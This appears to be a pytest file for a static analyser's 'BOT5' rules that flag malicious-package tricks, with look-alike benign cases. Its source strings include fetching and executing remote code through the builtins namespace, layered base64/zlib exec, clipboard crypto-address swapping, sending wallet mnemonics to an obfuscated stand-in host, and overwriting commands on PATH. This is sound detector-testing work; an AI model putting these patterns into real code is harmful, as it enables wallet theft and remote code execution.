"""BOT5 round 12b: the general causes of what a labelled suite of malicious packages missed,
each written here as a small case of its own, with look-alikes that must stay quiet.  Payloads
are inert text, hosts are look-alike names, addresses are made up."""
from __future__ import annotations

import base64
import zlib

from botlint.analysis.strings import static_str
from botlint.engine import lint_source

import libcst as cst

from helpers import settings


def codes(src, path="pkg/mod.py"):
    return {f.code for f in lint_source(src.encode(), path, settings(["BOT5"]))}


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


_DROP = _b64("https://sync.wallet-backup-fake.top/v2/in")
_INNER = base64.b64encode(zlib.compress(b"import os\nprint(os.getcwd())\n")).decode()


# -- 1. exec reached through the builtins namespace's get method --------------------------------

def test_builtins_get_through_getattr_of_a_conditional_box():
    src = ('import urllib.request\n'
           'def boot():\n'
           '    code = urllib.request.urlopen("https://paste.example.org/raw/abc").read()\n'
           '    ns = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)\n'
           '    getattr(ns, "get")("ex" + "ec")(code)\n')
    assert "BOT501" in codes(src)


def test_builtins_get_method_of_vars():
    src = 'import builtins, base64\nvars(builtins).get("eval")(base64.b64decode("MSsx"))\n'
    assert "BOT501" in codes(src)


def test_a_plain_mapping_get_is_not_builtins():
    src = ('import base64\nHANDLERS = {"exec": print}\n'
           'HANDLERS.get("exec")(base64.b64decode("MSsx"))\n'
           'getattr(HANDLERS, "get")("exec")(base64.b64decode("MSsx"))\n')
    assert "BOT501" not in codes(src)


# -- 2. exec of a code string whose own code decodes and runs a payload -------------------------

def test_exec_of_a_code_string_that_decodes_and_execs():
    src = ('_ns = {}\n'
           f'exec("import zlib, base64\\nexec(zlib.decompress(base64.b64decode(\'{_INNER}\')))", _ns)\n')
    assert "BOT501" in codes(src)


def test_exec_of_a_plain_code_string_is_quiet():
    src = '_ns = {}\nexec("def helper(x):\\n    return x * 2\\n", _ns)\nexec("import json", _ns)\n'
    assert "BOT501" not in codes(src)


# -- 3. the clipboard through a program, a wrapper and a helper's return ------------------------

_ADDR_TABLE = ('SWAPS = {\n'
               '    "eth": (re.compile(r"^0x[0-9a-fA-F]{40}$"), "0x5e1f0c9b7a2d4e6f8091a2b3c4d5e6f708192a3b"),\n'
               '}\n')


def test_clipboard_through_pbpaste_and_a_write_wrapper():
    src = ('import re, subprocess, codecs\n' + _ADDR_TABLE +
           'def _get():\n    return subprocess.run(["pbpaste"], capture_output=True, text=True).stdout\n'
           'def _put(value):\n    subprocess.run(["pbcopy"], input=value, text=True)\n'
           'def loop():\n'
           '    for rx, mine in SWAPS.values():\n'
           '        ours = codecs.decode(mine, "rot13")\n'
           '        if rx.match(_get()):\n'
           '            _put(ours)\n')
    assert "BOT505" in codes(src)


def test_clipboard_value_from_a_helpers_return():
    src = ('import re, pyperclip\n' + _ADDR_TABLE +
           'def _swap(text):\n'
           '    for rx, mine in SWAPS.values():\n'
           '        if rx.match(text):\n'
           '            return mine\n'
           '    return None\n'
           'def watch():\n'
           '    cur = pyperclip.paste()\n'
           '    repl = _swap(cur)\n'
           '    if repl:\n'
           '        pyperclip.copy(repl)\n')
    assert "BOT505" in codes(src)


def test_clipboard_program_writing_back_what_it_read_is_quiet():
    src = ('import re, subprocess\nADDR = re.compile(r"^0x[0-9a-fA-F]{40}$")\n'
           'def _get():\n    return subprocess.run(["xclip", "-o", "-selection", "clipboard"], '
           'capture_output=True, text=True).stdout\n'
           'def _put(value):\n    subprocess.run(["xclip", "-selection", "clipboard"], input=value, text=True)\n'
           'def tidy():\n    text = _get()\n    if ADDR.match(text.strip()):\n        _put(text.strip().lower())\n')
    assert "BOT505" not in codes(src)


# -- 4. URL hosts decoded through __import__ or returned by a module function -------------------

def test_static_str_reads_dunder_import_decoder():
    node = cst.parse_expression(f'__import__("base64").b64decode("{_DROP}").decode()')
    assert static_str(node, {}) == "https://sync.wallet-backup-fake.top/v2/in"


def test_seed_sent_to_url_decoded_through_dunder_import():
    src = ('import requests\n'
           f'_DEST = __import__("base64").b64decode("{_DROP}").decode()\n'
           'def backup(mnemonic):\n    requests.post(_DEST, json={"m": mnemonic}, timeout=5)\n')
    assert "BOT504" in codes(src)


def test_seed_sent_to_url_returned_by_a_function():
    src = ('import base64, httpx\n'
           f'def _dest():\n    """where to send."""\n    return base64.b64decode("{_DROP}").decode()\n'
           'def restore(mnemonic: str):\n    httpx.post(_dest(), json={"phrase": mnemonic}, timeout=3)\n')
    assert "BOT504" in codes(src)


def test_function_returning_an_exchange_url_stays_quiet():
    src = ('import httpx\n'
           'def _base():\n    return "https://api.kraken.com/0/public/Time"\n'
           'def ping(mnemonic_words: int = 12):\n    httpx.get(_base(), params={"n": mnemonic_words})\n')
    assert "BOT504" not in codes(src)


# -- 5. an installed command found on PATH overwritten ------------------------------------------

def test_command_on_path_overwritten():
    src = ('import os, shutil\nSTUB = "#!/usr/bin/env python3\\nprint(1)\\n"\n'
           'def patch():\n    tool = shutil.which("fake-wallet-cli")\n    if tool:\n'
           '        with open(tool, "w") as fh:\n            fh.write(STUB)\n        os.chmod(tool, 0o755)\n')
    assert "BOT506" in codes(src)


def test_command_on_path_read_or_run_is_quiet():
    src = ('import shutil, subprocess\n'
           'def version():\n    git = shutil.which("git")\n    head = open(git, "rb").read(4)\n'
           '    return subprocess.run([git, "--version"], capture_output=True).stdout, head\n'
           'def log(msg):\n    with open("bot.log", "a") as fh:\n        fh.write(msg)\n')
    assert "BOT506" not in codes(src)
